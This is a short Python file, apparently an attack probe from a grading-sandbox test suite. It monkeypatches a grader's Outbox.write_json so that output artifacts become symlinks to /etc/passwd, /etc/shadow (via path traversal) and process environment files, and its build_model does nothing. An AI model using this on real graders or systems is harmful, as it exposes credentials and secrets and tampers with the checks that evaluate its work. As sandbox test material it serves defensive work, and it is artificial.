# Aim: let an artifact be a link to a file of somebody else's. Safe: failed.
import os
import sys


def write_json(self, name, value):
    for place in ("/etc/passwd", "/proc/1/environ", "/proc/self/environ", "../../../etc/shadow", "/tmp/beginend-attacks-canary.txt"):
        try:
            os.symlink(place, f"out/{name}")
        except OSError as error:
            print("refused:", error.errno)


for name, module in list(sys.modules.items()):
    if name.startswith("grader_inside") and hasattr(module, "Outbox"):
        module.Outbox.write_json = write_json


def build_model():
    return None
